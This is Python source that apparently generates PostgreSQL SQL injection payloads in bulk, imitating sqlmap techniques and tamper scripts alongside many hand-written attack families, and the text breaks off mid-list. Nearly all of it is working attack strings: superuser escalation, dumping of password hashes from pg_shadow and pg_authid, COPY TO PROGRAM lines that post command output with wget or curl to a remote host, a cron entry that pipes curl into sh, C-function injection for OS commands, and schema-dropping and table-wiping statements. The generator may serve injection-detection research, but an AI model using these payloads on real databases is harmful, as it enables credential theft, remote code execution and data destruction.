        ("--file-write (largeobject update)", ";UPDATE pg_largeobject SET data=(DECODE('%s','base64')) WHERE loid=%d AND pageno=0" % (base64.b64encode(b"\x7fELF\x02\x01\x01\x00").decode(), oid)),
        ("--file-write (lo_export)", ";SELECT lo_export(%d,'%s')" % (oid, lib)),
        ("--udf-inject", ";CREATE OR REPLACE FUNCTION sys_eval(text) RETURNS text AS '%s','sys_eval' LANGUAGE C RETURNS NULL ON NULL INPUT IMMUTABLE" % lib),
        ("--os-cmd (sys_exec)", ";SELECT sys_exec('%s')" % cmd.replace("'", "''")),
        ("--priv-esc", ";ALTER USER current_user WITH SUPERUSER"),
        ("--cleanup", ";DROP TABLE IF EXISTS %s;SELECT lo_unlink(%d)" % (tbl, oid))])


def sqlmap_union(r, vector):
    """(title, dbms, payload, where): UNION query technique requests."""
    n, pos, filler, cols, kw, rng, where = union_request(r, 14, 4, 4, 0.4)
    x = r.randrange(9)
    if x == 0:
        return "Generic UNION query - ORDER BY technique", "generic", "ORDER BY %d" % r.randint(1, 30), 1
    if x == 1 and not vector:
        return "Generic UNION query (%s) - %s columns" % ("NULL" if filler == "NULL" else "random number", rng), "generic", "%s %s" % (kw, ",".join(cols)), where
    m1, m2, m3 = chrs(marker(r)), chrs(marker(r)), chrs(marker(r))
    if x == 2 or not vector:
        cols[pos] = "%s||%s||%s" % (m1, chrs(rstr(r, 10)), m2)
        return "Generic UNION query (%s) - %s columns (marker)" % ("NULL" if filler == "NULL" else "random number", rng), PG, "%s %s" % (kw, ",".join(cols)), where
    if x == 3:
        cols[pos] = "%s||%s||%s" % (m1, safe_cast(r.choice(["VERSION()", "CURRENT_USER", "CURRENT_SCHEMA()", "INET_SERVER_ADDR()"])), m2)
        return "Generic UNION query - %s columns (fingerprint)" % rng, PG, "%s %s" % (kw, ",".join(cols)), where
    src = r.choice([("pg_shadow", ["usename", "passwd"]), ("pg_user", ["usename", "usecreatedb", "usesuper"]), ("pg_tables", ["schemaname", "tablename"]),
                    ("pg_database", ["datname"]), ("information_schema.columns", ["table_name", "column_name"])]
                   + [("public." + t, c) for t, c in sorted(DUMP_TABLES.items())])
    cols[pos] = marked([safe_cast(c) for c in src[1]], m1, m3, m2)
    tail = " OFFSET %d LIMIT 1" % r.randint(0, 30) if r.random() < 0.35 else ""
    return "Generic UNION query - %s columns (dump %s)" % (rng, src[0]), PG, "%s %s FROM %s%s" % (kw, ",".join(cols), src[0], tail), where


def sqlmap_comment(r):
    return r.choice(["-- " + rstr(r)] * 5 + ["--", "-- -"])


def sqlmap_value(r, si, orig, place, where, payload, need_comment):
    """The parameter value one sqlmap request sends: [value][prefix] [payload] [suffix],
    with one of its boundaries (mostly one that fits the slot, sometimes not)."""
    typ, cl = si["type"], si["closers"]
    if "[ORIGVALUE]" in payload:
        payload = payload.replace("[ORIGVALUE]", orig if typ in ("n", "list") else "1")
    if where == 2 and typ not in ("col", "dir", "ident"):
        orig = "-%d" % randnum(r)
    k = len(cl) if r.random() < 0.8 else r.choice([0, 1, 2, 3])
    S = rstr(r)
    cmt = sqlmap_comment(r)
    if typ in ("q", "e", "qi", "d"):
        qc = {"qi": '"', "d": "'"}.get(typ, "'")
        if place == "order":
            return None
        if place == "repl":
            if typ in ("qi", "d") or r.random() < 0.35:
                return payload                  # stays inside the literal; dropped later
            return qc + "||" + payload + "||" + qc
        lk = si["like"] and r.random() < 0.6
        pre = orig + ("%" if lk else "") + qc + ")" * k
        if place == "stack":
            return pre + payload + (cmt if need_comment or r.random() < 0.75 else "")
        if place == "union":
            return pre + " " + payload + cmt
        body = pre + " " + payload
        if need_comment:
            return body + cmt
        x = r.random()
        if x < 0.4:
            if lk:
                return body + " AND " + "(" * k + "%s%%%s=%s" % (qc, qc, qc)
            return body + " AND " + "(" * k + "%s%s%s=%s%s" % (qc, S, qc, qc, S)
        if x < 0.55:
            return body + " AND " + "(" * k + "%s%s%s LIKE %s%s" % (qc, S, qc, qc, S)
        if x < 0.65 and typ in ("q", "e"):
            v = randnum(r)
            return body + " AND " + "(" * k + "%d=%d" % (v, v) + " AND " + qc + S + qc + "=" + qc + S
        return body + cmt
    if typ in ("n", "list"):
        if place == "repl":
            return payload
        if place == "order":
            return orig + payload if si["in_order"] else None
        pre = orig + ")" * k
        if place == "stack":
            return pre + payload + (cmt if need_comment or k or r.random() < 0.5 else "")
        if place == "union":
            return pre + " " + payload + cmt
        body = pre + " " + payload
        if need_comment:
            return body + cmt
        if k and r.random() < 0.75:
            v = randnum(r)
            return body + " AND " + "(" * k + "%d=%d" % (v, v)
        if k or r.random() < 0.3:
            return body + cmt
        return body
    if typ in ("col", "dir"):
        if place == "order":
            return orig + payload + (cmt if r.random() < 0.35 else "")
        if place == "repl":
            return payload if typ == "col" else None
        if place == "stack":
            return orig + payload + (cmt if need_comment or r.random() < 0.6 else "")
        if place == "cond" and r.random() < 0.2:
            return orig + " " + payload + cmt
        return None
    if typ == "ident":
        if place == "stack":
            return orig + payload + (cmt if need_comment or r.random() < 0.5 else "")
        return None
    return None


KEYWORDS = set("""SELECT FROM WHERE AND OR NOT UNION ALL CASE WHEN THEN ELSE END CAST AS NULL IS LIKE ILIKE IN EXISTS ORDER BY GROUP HAVING
LIMIT OFFSET INSERT INTO VALUES UPDATE SET DELETE DROP TABLE CREATE FUNCTION RETURNS LANGUAGE COPY PROGRAM DO BEGIN DECLARE EXECUTE PERFORM
NUMERIC INT INTEGER TEXT VARCHAR TRUE FALSE DISTINCT COUNT ASCII SUBSTRING SUBSTR LENGTH CHR PG_SLEEP GENERATE_SERIES VERSION CURRENT_USER
COALESCE NULLIF CONCAT FOR REPLACE ALTER ROLE USER GRANT TO WITH SUPERUSER LOGIN PASSWORD RAISE LOOP IF LEFT RIGHT POSITION OVERLAY""".split())


def tamper(r, name, s, typ):
    """sqlmap tamper scripts that keep a PostgreSQL payload working (mostly)."""
    if name == "randomcase":
        return edit(s, typ, lambda t, i, n: re.sub(r"[A-Za-z_]+", lambda m: "".join(c.upper() if r.random() < 0.5 else c.lower() for c in m.group(0))
                                                   if m.group(0).upper() in KEYWORDS else m.group(0), t))
    if name == "space2comment":
        return edit(s, typ, lambda t, i, n: t.replace(" ", "/**/"))
    if name == "space2randomblank":
        return edit(s, typ, lambda t, i, n: re.sub(" ", lambda m: r.choice(["\t", "\n", "\r", "\f"]), t))
    if name == "space2dash":
        return edit(s, typ, lambda t, i, n: re.sub(" ", lambda m: "--%s\n" % rstr(r, r.randint(3, 8)), t))
    if name == "between":
        def bt(t, i, n):
            t = re.sub(r"\s*>\s*(\d+)", lambda m: " NOT BETWEEN 0 AND %s" % m.group(1), t)
            return re.sub(r"\b(\d+)=(\d+)\b", lambda m: "%s BETWEEN %s AND %s" % (m.group(1), m.group(2), m.group(2)), t)
        return edit(s, typ, bt)
    if name == "equaltolike":
        return edit(s, typ, lambda t, i, n: re.sub(r"(?<=[\w)])\s*=\s*(?=[\w(])", " LIKE ", t))
    if name == "substring2leftright":
        return edit(s, typ, lambda t, i, n: re.sub(r"SUBSTRING\(\((.+?)\)::text FROM (\d+) FOR 1\)", lambda m: "RIGHT(LEFT((%s)::text,%s),1)" % (m.group(1), m.group(2)), t)
                    if "FROM pg_" not in t else t)
    if name == "unionalltounion":
        return edit(s, typ, lambda t, i, n: re.sub(r"(?i)UNION\s+ALL\s+SELECT", "UNION SELECT", t))
    if name == "commentbeforeparentheses":
        return edit(s, typ, lambda t, i, n: re.sub(r"\b(\w+)\(", r"\1/**/(", t))
    if name == "space2plus":
        return edit(s, typ, lambda t, i, n: t.replace(" ", "+"))
    raise KeyError(name)


TAMPERS = ["randomcase", "space2comment", "space2randomblank", "space2dash", "between", "equaltolike", "substring2leftright", "unionalltounion",
           "commentbeforeparentheses", "space2plus"]
NO_WHERE = ("COMMENT", "CALL", "EXECUTE", "FETCH", "MOVE", "ALTER", "CREATE")


def misfit(r, si, place):
    """Conditions where there is no WHERE to extend or in a VALUES row: sqlmap probes these too, but mostly in vain."""
    if place in ("cond", "order") and si["lead"] in NO_WHERE and r.random() < 0.8:
        return True
    return place == "cond" and "VALUES" in si["ctx"] and r.random() < 0.6


SQLMAP = corpus_kit.Sqlmap(tests=sqlmap_tests, union=sqlmap_union, takeover=sqlmap_takeover, value=sqlmap_value, tamper=tamper, tampers=TAMPERS,
                           union_fits=lambda si: si["lead"] == "SELECT" and not (si["in_order"] or si["in_limit"] or si["type"] in ("col", "dir", "ident")),
                           misfit=misfit, vector_share=0.6, takeover_share=0.2, tamper_share=0.13)


# ---------------------------------------------------------------- hand-written PostgreSQL techniques
# mode: cond (an AND/OR clause) | open (a clause whose last string the
# template's own quote closes) | stack (statements after ;) | union (a UNION
# tail) | repl (a value in place of the input) | concat (spliced into the
# string with ||) | order (an extra ORDER BY expression)
def secs(r):
    return r.choice([3, 5, 7, 9, 11, 20, 25])


ODD_TAGS = ["$_$", "$__$", "$q_1$", "$X$", "$Ω$", "$tag_é$", "$a1b2$", "$DO$", "$body$", "$ж$", "$_z9$", "$Q$"]


def hand_cores(r, fam):
    a, b = r.randint(3, 80), r.randint(81, 900)
    w = rword(r, r.randint(3, 6))
    s = secs(r)
    t, u, p, who = loot(r)
    e = target(r)
    host, ip, f, cmd = r.choice(HOSTS), r.choice(IPS), r.choice(FILES), r.choice(CMDS)
    nm = rword(r, r.randint(4, 7)) + str(r.randint(0, 99))
    oid = r.randint(40000, 99999)
    sq = lambda v: v.replace("'", "''")
    if fam == "tautology":
        return [(n, "cond", c, PG) for n, c in [
            ("or_case_true", "OR CASE WHEN %d>%d THEN true END" % (b, a)), ("or_coalesce_nullif", "OR COALESCE(NULLIF(%d,%d),%d)=%d" % (a, b, a, a)),
            ("or_nested_case", "OR (CASE WHEN (CASE WHEN 1=1 THEN 'y' END)='y' THEN 1 ELSE 0 END)=1"), ("or_int8_int2", "OR %d::int8=%d::int2" % (a, a)),
            ("or_char_cast", "OR '%s'::char(1)='%s'" % (w[0], w[0])), ("or_interval_cmp", "OR interval '1 day' > interval '%d hours'" % (a % 23 + 1)),
            ("or_point_same", "OR point(%d,%d) ~= point(%d,%d)" % (a, b, a, b)), ("or_collate_c", "OR 'a' COLLATE \"C\" < 'b'"),
            ("or_tsvector_match", "OR to_tsvector('simple','%s') @@ to_tsquery('simple','%s')" % (w, w)), ("or_range_contains", "OR int8range(1,%d) @> %d::int8" % (b, a)),
            ("or_overlay", "OR overlay('%s' placing 'Z' from 1 for 1)='Z%s'" % (w, w[1:])), ("or_any_array_literal", "OR %d = ANY('{%d,%d}'::int[])" % (a, b, a)),
            ("or_exists_empty_target", "OR EXISTS(SELECT FROM pg_class)"), ("or_not_distinct", "OR (SELECT %d) IS NOT DISTINCT FROM %d" % (a, a)),
            ("or_regexp_match", "OR regexp_match('%s','^%s') IS NOT NULL" % (w, w[0])), ("or_to_char", "OR to_char(%d,'FM999')='%d'" % (a, a)),
            ("or_jsonb_typeof", "OR jsonb_typeof('%d')='number'" % a), ("or_left_right", "OR left('%s',1)=right('%s',%d)" % (w, w[0], 1)),
            ("or_greatest_least", "OR greatest(%d,%d)>least(%d,%d)" % (a, b, a, b)), ("or_bool_and", "OR bool_and(true) OVER () IS NULL OR true"),
            ("or_numeric_scale", "OR scale(%d.50)=2" % a), ("or_inet_contains", "OR inet '10.0.0.1' << inet '10.0.0.0/8'"),
            ("or_uuid_eq", "OR gen_random_uuid() IS NOT NULL"), ("or_row_in", "OR (%d,%d) IN ((%d,%d))" % (a, b, a, b)), ("or_isnull_chain", "OR NULLIF(NULLIF('%s','x'),'y') IS NOT NULL" % w),
            ("or_xml_is_document", "OR xml_is_well_formed('<%s/>')" % w), ("or_ascii_eq", "OR ascii('%s')=%d" % (w[0], ord(w[0]))), ("or_length_eq", "OR char_length('%s')=%d" % (w, len(w))),
            ("or_unicode_ident", "OR U&'\\0031'='1'"), ("or_dollar_tag", "OR $%s$%s$%s$=$%s$%s$%s$" % (w[:2], w, w[:2], w[:2], w, w[:2])),
            ("or_cast_text_int", "OR CAST('%d' AS smallint)=%d" % (a, a)), ("or_date_part", "OR date_part('year',now())>%d" % r.randint(1990, 2015))]] + [
            (n, "open", c, PG) for n, c in [("open_not_distinct", ("OR ", "'%s' IS NOT DISTINCT FROM '%s" % (w, w))), ("open_lt", ("OR ", "'%s'<'%s" % (w[:1], w[:1] + "a"))),
                                             ("open_case_str", ("OR CASE WHEN true THEN '%s' END=" % w, "'%s" % w)), ("open_coalesce", ("OR COALESCE(NULL,'%s')=" % w, "'%s" % w)),
                                             ("open_similar", ("OR '%s' SIMILAR TO " % w, "'%%")), ("open_ilike", ("OR '%s' ILIKE " % w.upper(), "'%s" % w))]]
    if fam == "union":
        n = r.randint(1, 6)
        pos = r.randrange(n)
        arms = [("db_role_setting", "array_to_string(setconfig,',')", " FROM pg_db_role_setting"), ("stat_statements", "query", " FROM pg_stat_statements ORDER BY total_exec_time DESC"),
                ("pg_config", "name||'='||setting", " FROM pg_config"), ("replication_slots", "slot_name||' '||coalesce(database,'')", " FROM pg_replication_slots"),
                ("sequences", "schemaname||'.'||sequencename", " FROM pg_sequences"), ("policies", "policyname||':'||coalesce(qual,'')", " FROM pg_policies"),
                ("foreign_server", "srvname||' '||array_to_string(srvoptions,',')", " FROM pg_foreign_server"), ("ident_mappings", "map_name||' '||sys_name||' '||pg_username", " FROM pg_ident_file_mappings"),
                ("prepared_xacts", "gid", " FROM pg_prepared_xacts"), ("wal_receiver", "conninfo", " FROM pg_stat_wal_receiver"),
                ("proc_src", "proname||':'||prosrc", " FROM pg_proc WHERE pronamespace='public'::regnamespace"), ("loot", "%s||chr(58)||%s" % (u, p), " FROM %s" % t),
                ("ls_dir", "pg_ls_dir('.')", ""), ("stat_ssl", "ssl::text||coalesce(version,'')", " FROM pg_stat_ssl"), ("seclabels", "provider||' '||label", " FROM pg_seclabels"),
                ("matviews", "matviewname||' '||definition", " FROM pg_matviews"), ("locks_pid", "pid::text||' '||mode", " FROM pg_locks"),
                ("auth_members", "roleid::regrole::text||' > '||member::regrole::text", " FROM pg_auth_members")]
        name, ex, frm = r.choice(arms)
        style = r.randrange(6)
        if style == 0:
            return [("arm_paren_" + name, "union", "UNION ALL (SELECT %s%s)" % (nulls(n, pos, ex), frm), PG)]
        if style == 1 and not frm:
            return [("arm_values_" + name, "union", "UNION VALUES (%s)" % nulls(n, pos, ex), PG)]
        if style == 2:
            return [("arm_table_authid", "union", r.choice(["UNION TABLE pg_authid", "UNION ALL TABLE pg_shadow", "UNION TABLE %s" % t]), PG)]
        kw = r.choice(["UNION SELECT", "UNION ALL SELECT", "UniOn SeLeCt", "UNION\nSELECT", "UNION ALL\tSELECT"])
        return [("arm_" + name, "union", "%s %s%s" % (kw, nulls(n, pos, ex), frm), PG)]
    if fam == "stacked":
        return [(n, "stack", c, PG) for n, c in [
            ("create_role_many_opts", "CREATE ROLE %s WITH SUPERUSER CREATEROLE CREATEDB REPLICATION BYPASSRLS LOGIN PASSWORD '%s'" % (nm, rword(r, 12))),
            ("alter_user_valid_until", "ALTER USER %s VALID UNTIL 'infinity'" % r.choice(["postgres", "forge_app", "current_user"])),
            ("alter_role_connlimit", "ALTER ROLE %s CONNECTION LIMIT -1 SUPERUSER" % r.choice(["forge_app", "kites", "guild_rw"])),
            ("grant_execute_program", "GRANT pg_execute_server_program TO %s" % r.choice(["forge_app", "public", "current_user"])),
            ("grant_read_files", "GRANT pg_read_server_files, pg_write_server_files TO CURRENT_USER"),
            ("grant_all_tables", "GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC"), ("disable_rls", "ALTER TABLE %s DISABLE ROW LEVEL SECURITY" % t),
            ("drop_policy", "DROP POLICY IF EXISTS tenant_isolation ON %s" % t), ("user_mapping", "CREATE USER MAPPING FOR PUBLIC SERVER loopback OPTIONS (user 'postgres', password '%s')" % rword(r, 8)),
            ("preload_libraries", "ALTER SYSTEM SET shared_preload_libraries = '/tmp/%s.so'" % nm), ("load_library", "LOAD '/tmp/%s.so'" % nm),
            ("create_tablespace", "CREATE TABLESPACE %s LOCATION '/tmp'" % nm), ("replace_view", "CREATE OR REPLACE VIEW %s_v AS SELECT %s, %s FROM %s" % (nm, u, p, t)),
            ("insert_select_copy", "INSERT INTO %s(%s,%s) SELECT usename, passwd FROM pg_shadow" % (t, u, p)),
            ("update_all_rows", "UPDATE %s SET %s = md5('%s')" % (t, p, w)), ("lock_exclusive", "LOCK TABLE %s IN ACCESS EXCLUSIVE MODE" % t),
            ("prepare_transaction", "BEGIN; DELETE FROM %s; PREPARE TRANSACTION '%s'" % (t, nm)), ("listen_channel", "LISTEN %s; NOTIFY %s, '%s'" % (nm, nm, w)),
            ("security_label", "SECURITY LABEL ON ROLE postgres IS 'unclassified'"), ("drop_schema", "DROP SCHEMA IF EXISTS public CASCADE"),
            ("alter_default_role_set", "ALTER ROLE ALL SET log_statement TO 'none'"), ("reassign_owned", "REASSIGN OWNED BY postgres TO %s" % r.choice(["forge_app", "public"])),
            ("create_cast_hijack", "CREATE CAST (text AS int4) WITH INOUT AS IMPLICIT"), ("alter_function_owner", "ALTER FUNCTION pg_sleep(float8) OWNER TO current_user"),
            ("set_role_chain", "SET ROLE pg_write_server_files; RESET ROLE"), ("truncate_restart", "TRUNCATE %s RESTART IDENTITY CASCADE" % t),
            ("merge_wipe", "MERGE INTO %s x USING (SELECT 1) s ON true WHEN MATCHED THEN DELETE" % t), ("vacuum_freeze", "VACUUM (FREEZE, VERBOSE) %s" % t),
            ("cluster_lock", "CLUSTER %s USING %s_pkey" % (t, t)), ("cursor_dump", "DECLARE %s CURSOR FOR SELECT * FROM pg_authid; FETCH ALL FROM %s" % (nm, nm))]]
    if fam == "boolean_blind":
        return [(n, "cond", c, PG) for n, c in [
            ("probe_target", "AND " + probe(r)), ("probe_target_or", "OR " + probe(r)), ("probe_login", "AND " + probe(r, "(SELECT %s FROM %s WHERE %s='%s')" % (p, t, u, who))),
            ("case_wrapped_probe", "AND (CASE WHEN %s THEN 1 ELSE 0 END)=1" % probe(r)), ("coalesce_wrapped_probe", "AND COALESCE((SELECT %s),false)" % probe(r)),
            ("lo_count", "AND (SELECT count(*) FROM pg_largeobject_metadata)>%d" % r.randint(0, 5)), ("has_schema_priv", "AND has_schema_privilege('public','CREATE')"),
            ("replication_role", "AND (SELECT rolreplication FROM pg_roles WHERE rolname=current_user)"), ("recovery_mode", "AND NOT pg_is_in_recovery()"),
            ("proc_exists", "AND to_regproc('%s') IS NOT NULL" % r.choice(["dblink_exec", "lo_export", "pg_read_file", "sys_eval"])),
            ("setting_regexp", "AND (regexp_match(current_setting('data_directory'),'/(\\d+)/'))[1]='%d'" % r.randint(11, 17)),
            ("extension_version", "AND (SELECT extversion FROM pg_extension WHERE extname='plpgsql') ^@ '1'"), ("server_encoding", "AND current_setting('server_encoding')='UTF8'"),
            ("priv_on_column", "AND has_column_privilege('%s','%s','SELECT')" % (t, p)), ("conn_count", "AND (SELECT setting::int FROM pg_settings WHERE name='max_connections')>%d" % r.choice([50, 100, 200])),
            ("fsync_guess", "AND current_setting('fsync')::bool"), ("wal_lsn", "AND pg_current_wal_lsn() > '0/%X'::pg_lsn" % r.randint(1, 0xFFFFFF)),
            ("backend_type", "AND EXISTS(SELECT 1 FROM pg_stat_activity WHERE backend_type='%s')" % r.choice(["walsender", "autovacuum launcher", "logical replication launcher"]))]]
    if fam == "time_pg_sleep":
        return [
            ("nested_case_sleep", "cond", "AND 1=(CASE WHEN (CASE WHEN %d>%d THEN 1 END)=1 THEN 1 ELSE (SELECT 1 FROM pg_sleep(%d)) END)" % (a, b, s), PG),
            ("coalesce_chain_sleep", "cond", "AND COALESCE(NULLIF(1,1),NULLIF(2,2),(SELECT 3 FROM pg_sleep(%d)))=3" % s, PG),
            ("cte_sleep", "cond", "AND (WITH z AS (SELECT pg_sleep(%d)) SELECT 1 FROM z)=1" % s, PG),
            ("values_sleep", "cond", "AND EXISTS(SELECT * FROM (VALUES (pg_sleep(%d))) v(x))" % s, PG),
            ("sleep_for_text", "cond", "AND pg_sleep_for('%d seconds') IS NULL" % s, PG), ("sleep_until_cast", "stack", "SELECT pg_sleep_until(now() + '%d s'::interval)" % s, PG),
            ("probe_then_sleep", "cond", "AND (SELECT CASE WHEN %s THEN pg_sleep(%d) END) IS NULL" % (probe(r), s), PG),
            ("sleep_comment_args", "cond", "AND 0=(SELECT count(*) FROM pg_sleep(/*x*/%d/**/))" % s, PG),
            ("md5_heavy", "cond", "AND (SELECT count(*) FROM generate_series(1,%d) g WHERE md5(g::text) LIKE 'ab%%')>=0" % r.choice([5000000, 9000000]), PG),
            ("crypt_heavy", "cond", "AND length((SELECT string_agg(md5(x::text),'') FROM generate_series(1,%d) x))>0" % r.choice([2000000, 4000000]), PG),
            ("sleep_float_cast", "stack", "SELECT pg_sleep(%d.5::float4)" % s, PG), ("sleep_from_activity", "stack", "SELECT pg_sleep(%d) FROM pg_stat_activity LIMIT 1" % s, PG),
            ("value_sleep_case", "repl", "(CASE WHEN 1=1 THEN (SELECT %d FROM pg_sleep(%d)) END)" % (a, s), PG),
            ("concat_sleep_coalesce", "concat", "COALESCE((SELECT pg_sleep(%d))::text,'')" % s, PG), ("order_sleep_case", "order", "(CASE WHEN true THEN (SELECT 1 FROM pg_sleep(%d)) END)" % s, PG),
            ("sleep_in_lateral_series", "cond", "AND (SELECT count(*) FROM generate_series(1,1) g, LATERAL pg_sleep(%d))=1" % s, PG),
            ("advisory_xact_sleep", "stack", "SELECT pg_advisory_xact_lock(%d), pg_sleep(%d)" % (oid, s), PG),
            ("sleep_in_jsonb", "cond", "AND jsonb_build_array((SELECT pg_sleep(%d)))::text IS NOT NULL" % s, PG)]
    if fam == "error_cast":
        return [
            ("regtype_cast", "cond", "AND (%s)::text::regtype IS NULL" % e, PG), ("regnamespace_cast", "cond", "AND (%s)::text::regnamespace IS NULL" % e, PG),
            ("regconfig_cast", "cond", "AND CAST((%s)::text AS regconfig) IS NULL" % e, PG), ("pg_lsn_cast", "cond", "AND (%s)::text::pg_lsn IS NULL" % e, PG),
            ("cidr_cast", "cond", "AND (%s)::text::cidr IS NULL" % e, PG), ("point_cast", "cond", "AND (%s)::text::point IS NULL" % e, PG),
            ("box_cast", "cond", "OR (%s)::text::box IS NULL" % e, PG), ("int2_cast", "cond", "AND CAST((%s)::text AS int2)=1" % e, PG),
            ("float4_cast", "cond", "AND (%s)::text::float4>0" % e, PG), ("timestamptz_cast", "cond", "AND (%s)::text::timestamptz IS NULL" % e, PG),
            ("daterange_cast", "cond", "AND (%s)::text::daterange IS NULL" % e, PG), ("numeric_typmod", "cond", "AND (%s)::text::numeric(2,1)=0" % e, PG),
            ("xmlparse_document", "cond", "AND xmlparse(document (%s)::text) IS NULL" % e, PG), ("xpath_bad", "cond", "AND xpath('/'||(%s)::text,'<a/>') IS NULL" % e, PG),
            ("json_concat", "cond", "AND ('{\"k\":'||(%s)::text||'}')::json IS NULL" % e, PG), ("jsonb_path", "cond", "AND jsonb_path_query_first('{}',(%s)::text::jsonpath) IS NULL" % e, PG),
            ("to_date_format", "cond", "AND to_date((%s)::text,'YYYY-MM-DD') IS NULL" % e, PG), ("to_timestamp_err", "cond", "AND to_timestamp((%s)::text,'HH24:MI') IS NULL" % e, PG),
            ("div_zero_case", "cond", "AND 1=1/(CASE WHEN %s THEN 0 ELSE 1 END)" % probe(r), PG), ("div_zero_nested", "cond", "AND (SELECT 1/(CASE WHEN (CASE WHEN %s THEN 1 END) IS NULL THEN 1 ELSE 0 END))=1" % probe(r), PG),
            ("overflow_probe", "cond", "AND (2147483647+(CASE WHEN %s THEN 1 ELSE 0 END))::int4>0" % probe(r), PG),
            ("series_step_zero", "cond", "AND (SELECT count(*) FROM generate_series(1,2,(CASE WHEN %s THEN 0 ELSE 1 END)))>0" % probe(r), PG),
            ("value_regtype", "repl", "CAST((%s)::text AS regclass)::oid" % e, PG), ("concat_int4", "concat", "CAST((%s)::text AS int4)::text" % e, PG),
            ("order_cast_bigint", "order", "(%s)::text::bigint" % e, PG), ("make_interval_err", "cond", "AND make_interval(secs=>(%s)::text::float8) IS NULL" % e, PG),
            ("enum_in", "cond", "AND enum_in((%s)::text::cstring,'anyenum'::regtype::oid) IS NULL" % e, PG), ("raise_exception_fn", "cond", "AND (SELECT (%s)::text::txid_snapshot) IS NULL" % e, PG)]
    if fam == "oob_file_program":
        return [(n, m, c, PG) for n, m, c in [
            ("copy_program_wget", "stack", "COPY (SELECT '') TO PROGRAM 'wget -q --post-data=\"$(id)\" http://%s/'" % host),
            ("copy_from_program_env", "stack", "CREATE TEMP TABLE %s(c text); COPY %s FROM PROGRAM '%s'; SELECT string_agg(c,chr(10)) FROM %s" % (nm, nm, sq(cmd), nm)),
            ("copy_program_dns", "stack", "COPY (SELECT 1) TO PROGRAM 'nslookup '||current_user||'.%s'" % host),
            ("copy_to_cron", "stack", "COPY (SELECT '* * * * * root curl %s|sh') TO '/etc/cron.d/%s'" % (host, nm)),
            ("copy_from_file", "stack", "CREATE TEMP TABLE %s(l text); COPY %s FROM '%s'" % (nm, nm, f)),
            ("copy_delimiter_trick", "stack", "COPY %s TO PROGRAM 'gzip > /tmp/%s.gz' WITH (FORMAT csv, DELIMITER '|')" % (t, nm)),
            ("file_fdw_program", "stack", "CREATE EXTENSION IF NOT EXISTS file_fdw; CREATE SERVER %s FOREIGN DATA WRAPPER file_fdw; CREATE FOREIGN TABLE %s_x (l text) SERVER %s OPTIONS (program '%s')" % (nm, nm, nm, sq(cmd))),
            ("file_fdw_filename", "stack", "CREATE FOREIGN TABLE %s (l text) SERVER files OPTIONS (filename '%s')" % (nm, f)),
            ("read_file_len", "cond", "AND length(pg_read_file('%s',0,200))>0" % f), ("read_binary_hex", "stack", "SELECT encode(pg_read_binary_file('%s'),'hex')" % f),
            ("ls_dir_missing_ok", "stack", "SELECT pg_ls_dir('%s',true,false)" % r.choice(["/", "/etc", "/home", "pg_wal"])),
            ("ls_tmpdir", "stack", "SELECT name, size FROM pg_ls_tmpdir()"), ("ls_archive", "stack", "SELECT * FROM pg_ls_archive_statusdir()"),
            ("stat_file_cond", "cond", "AND (pg_stat_file('%s')).size>0" % f), ("read_file_union", "union", "UNION ALL SELECT pg_read_file('%s',0,1024)" % f),
            ("lo_import_oid", "stack", "SELECT lo_import('%s'); SELECT lo_get(max(oid)) FROM pg_largeobject_metadata" % f),
            ("lo_from_export", "stack", "SELECT lo_export(lo_from_bytea(%d,decode('%s','base64')),'/tmp/%s')" % (oid, base64.b64encode(("#!/bin/sh\n" + cmd).encode()).decode(), nm)),
            ("lo_open_write", "stack", "SELECT lowrite(lo_open(%d,131072),'\\x2f62696e2f7368'::bytea)" % oid),
            ("dblink_exec_remote", "stack", "SELECT dblink_exec('host=%s user=x password=y dbname=z','SELECT 1')" % ip),
            ("dblink_dns_user", "cond", "AND dblink_connect('host='||(SELECT %s FROM %s LIMIT 1)||'.%s')='OK'" % (p, t, host)),
            ("dblink_connect_u", "stack", "SELECT dblink_connect_u('hostaddr=%s port=5432 dbname=postgres')" % ip),
            ("dblink_open_cursor", "stack", "SELECT dblink_open('c','SELECT rolpassword FROM pg_authid')"),
            ("fdw_import_schema", "stack", "IMPORT FOREIGN SCHEMA public FROM SERVER %s INTO public" % nm),
            ("adminpack_rename", "stack", "SELECT pg_file_rename('/tmp/%s','postgresql.auto.conf')" % nm),
            ("config_reload_program", "stack", "ALTER SYSTEM SET restore_command = '%s'; SELECT pg_reload_conf()" % sq(cmd)),
            ("concat_read_file", "concat", "pg_read_file('%s',0,64)" % f)]]
    if fam == "plpgsql_do_exec":
        tg = r.choice(ODD_TAGS)
        B = lambda body: tg + body + tg
        sleepy = "".join("chr(%d)||" % ord(c) for c in "SELECT pg_sleep(%d)" % s)[:-2]
        return [(n, "stack", c, PG) for n, c in [
            ("do_odd_tag_exec", "DO %s BEGIN EXECUTE 'DROP TABLE IF EXISTS %s'; END %s" % (tg, t, tg)),
            ("do_execute_using", "DO %s DECLARE v text; BEGIN EXECUTE 'SELECT %s FROM %s WHERE %s=$1' INTO v USING '%s'; RAISE NOTICE '%%', v; END %s" % (tg, p, t, u, who, tg)),
            ("do_chr_built", "DO %s BEGIN EXECUTE %s; END %s" % (tg, sleepy, tg)),
            ("do_for_in_execute", "DO %s DECLARE r record; BEGIN FOR r IN EXECUTE 'SELECT rolname, rolpassword FROM pg_authid' LOOP RAISE WARNING '%%:%%', r.rolname, r.rolpassword; END LOOP; END %s" % (tg, tg)),
            ("do_copy_via_execute", "DO %s BEGIN EXECUTE format('COPY %%I TO PROGRAM %%L', '%s', 'curl -T - http://%s/'); END %s" % (tg, t, host, tg)),
            ("do_get_diagnostics", "DO %s DECLARE n int; BEGIN DELETE FROM %s; GET DIAGNOSTICS n = ROW_COUNT; RAISE NOTICE '%%', n; END %s" % (tg, t, tg)),
            ("do_language_last", "DO %s BEGIN PERFORM pg_sleep(%d); END %s LANGUAGE plpgsql" % (tg, s, tg)),
            ("do_dblink_inside", "DO %s BEGIN PERFORM dblink_exec('dbname=postgres', 'ALTER ROLE %s SUPERUSER'); END %s" % (tg, r.choice(["forge_app", "kites"]), tg)),
            ("do_decode_hex", "DO %s BEGIN EXECUTE convert_from('\\x%s'::bytea,'UTF8'); END %s" % (tg, ("ALTER ROLE current_user SUPERUSER").encode().hex(), tg)),
            ("do_while_sleep", "DO %s DECLARE i int := 0; BEGIN WHILE i < %d LOOP PERFORM pg_sleep(1); i := i + 1; END LOOP; END %s" % (tg, s, tg)),
